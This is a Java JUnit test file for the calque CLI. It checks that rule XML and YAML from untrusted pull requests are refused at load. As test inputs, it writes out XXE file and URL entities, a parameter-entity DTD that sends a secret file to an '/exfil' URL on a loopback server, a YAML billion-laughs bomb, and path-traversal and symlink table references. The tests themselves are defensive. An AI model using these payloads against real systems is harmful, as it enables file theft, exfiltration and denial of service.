package dev.calque.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.calque.ingest.Fixtures;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A rule folder or a calque.yml from a pull request is written by whoever opened it. Rule XML
 * that declares entities (a local file, a loopback URL, a parameter-entity DTD that would send a
 * file out in a URL), a YAML "billion laughs", a table outside the rule folder and a rule without
 * examples are each refused at load: exit 2, one line naming the file, no file read, no connection.
 */
class UntrustedRuleFilesTest {
    @TempDir
    static Path dir;
    static HttpServer server;
    static final List<String> requests = new CopyOnWriteArrayList<>();
    static String base;
    static Path secret;
    static final String SECRET = "runner-secret-7f3a9c";

    @BeforeAll
    static void start() throws Exception {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", ex -> {
            requests.add(ex.getRequestURI().toString());
            byte[] body = ("<!ENTITY % all \"<!ENTITY send SYSTEM '" + base + "/exfil?d=%file;'>\"> %all;")
                    .getBytes(java.nio.charset.StandardCharsets.UTF_8);
            ex.sendResponseHeaders(200, body.length);
            ex.getResponseBody().write(body);
            ex.close();
        });
        server.start();
        base = "http://127.0.0.1:" + server.getAddress().getPort();
        secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
    }

    @AfterAll
    static void stop() {
        server.stop(0);
    }

    private static final String RULE = """
              <category id="X" name="x" mqm="Style/Unidiomatic" severity="minor">
                <rule id="EVIL_RULE" name="evil">
                  <pattern><token>Poutine</token></pattern>
                  <message>Say Putin &x;.</message>
                  <example correction="">Vladimir <marker>Poutine</marker> spoke.</example>
                  <example>Vladimir Putin spoke.</example>
                </rule>
              </category>
            </rules>
            """;

    private static CliRun checkWithRules(String name, String file, String content) throws Exception {
        Path rules = Files.createDirectories(dir.resolve(name));
        Files.writeString(rules.resolve(file), content);
        Path config = Files.writeString(dir.resolve(name + ".yml"), "rules:\n  folders: [" + name + "]\n");
        return CliRun.of("check", "--config", config.toString(), "--no-stock", Fixtures.SEED.toString());
    }

    private static void assertRefused(CliRun run, String file, String reason) {
        assertThat(run.exit()).as(run.err()).isEqualTo(Main.USAGE);
        List<String> lines = run.err().lines().toList();
        assertThat(lines).as(run.err()).hasSize(1);
        assertThat(lines.get(0)).startsWith("calque: ").contains(file).contains(reason);
        assertThat(run.out() + run.err()).doesNotContain(SECRET);
    }

    @Test
    void aFileEntityInRuleXmlIsRefusedAndTheFileIsNotRead() throws Exception {
        CliRun run = checkWithRules("file-entity", "evil.xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE rules [<!ENTITY x SYSTEM \""
                + secret.toUri() + "\">]>\n<rules lang=\"en\">\n" + RULE);
        assertRefused(run, "evil.xml", "DOCTYPE is not allowed");
    }

    @Test
    void urlAndParameterEntitiesMakeNoConnection() throws Exception {
        CliRun url = checkWithRules("url-entity", "evil.xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE rules [<!ENTITY x SYSTEM \""
                + base + "/entity\">]>\n<rules lang=\"en\">\n" + RULE);
        assertRefused(url, "evil.xml", "DOCTYPE is not allowed");
        CliRun dtd = checkWithRules("param-entity", "evil.xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE rules [\n"
                + "<!ENTITY % file SYSTEM \"" + secret.toUri() + "\">\n<!ENTITY % dtd SYSTEM \"" + base + "/evil.dtd\">\n"
                + "%dtd;]>\n<rules lang=\"en\">\n" + RULE.replace("&x;", "&send;"));
        assertRefused(dtd, "evil.xml", "DOCTYPE is not allowed");
        CliRun external = checkWithRules("external-dtd", "evil.xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE rules SYSTEM \""
                + base + "/rules.dtd\">\n<rules lang=\"en\">\n" + RULE.replace("&x;", ""));
        assertRefused(external, "evil.xml", "DOCTYPE is not allowed");
        assertThat(requests).as("connections to the loopback server").isEmpty();
    }

    @Test
    void aYamlBillionLaughsIsRefusedQuickly() throws Exception {
        StringBuilder y = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (int i = 1; i < 10; i++) {
            y.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 9; j++) y.append(j == 0 ? "" : ",").append("*a").append(i - 1);
            y.append("]\n");
        }
        Path config = Files.writeString(dir.resolve("laughs.yml"), y + "rules:\n  disable: *a9\n");
        long t0 = System.nanoTime();
        CliRun run = CliRun.of("check", "--config", config.toString(), Fixtures.SEED.toString());
        assertThat((System.nanoTime() - t0) / 1e9).isLessThan(20);
        assertThat(run.exit()).as(run.err()).isEqualTo(Main.USAGE);
        assertThat(run.err().lines().toList()).hasSize(1);
        assertThat(run.err()).startsWith("calque: ").contains("laughs.yml");
    }

    @Test
    void aTableOutsideTheRuleFolderIsNotRead() throws Exception {
        CliRun run = checkWithRules("outside", "names.yml", """
                rules:
                  - id: STOLEN_TABLE
                    kind: substitution
                    category: Style/Unidiomatic
                    severity: minor
                    message: "{match} -> {suggestion}"
                    table: ../secret.txt
                    examples:
                      - flag: "Vladimir <marker>Poutine</marker> spoke."
                      - clean: "Vladimir Putin spoke."
                """);
        assertRefused(run, "names.yml", "table '../secret.txt' must be a file beside names.yml");
        Path linked = Files.createDirectories(dir.resolve("linked"));
        Files.createSymbolicLink(linked.resolve("names.tsv"), secret);
        CliRun link = checkWithRules("linked", "names.yml", """
                rules:
                  - id: LINKED_TABLE
                    kind: substitution
                    category: Style/Unidiomatic
                    severity: minor
                    message: "{match} -> {suggestion}"
                    table: names.tsv
                    examples:
                      - flag: "Vladimir <marker>Poutine</marker> spoke."
                      - clean: "Vladimir Putin spoke."
                """);
        assertRefused(link, "names.yml", "(it links elsewhere)");
    }

    @Test
    void aRuleWithoutBothExamplesIsRefused() throws Exception {
        CliRun run = checkWithRules("untested", "bare.yml", """
                rules:
                  - id: UNTESTED_RULE
                    kind: substitution
                    category: Style/Unidiomatic
                    severity: minor
                    message: "{match} -> {suggestion}"
                    swap: {Poutine: Putin}
                    examples:
                      - flag: "Vladimir <marker>Poutine</marker> spoke."
                """);
        assertRefused(run, "bare.yml", "UNTESTED_RULE: needs at least one flagged and one clean example");
        CliRun xml = checkWithRules("untested-xml", "bare.xml", "<?xml version=\"1.0\"?>\n<rules lang=\"en\">\n"
                + RULE.replace("&x;", "").replace("<example>Vladimir Putin spoke.</example>", ""));
        assertRefused(xml, "bare.xml", "EVIL_RULE: needs at least one flagged and one clean example");
    }
}
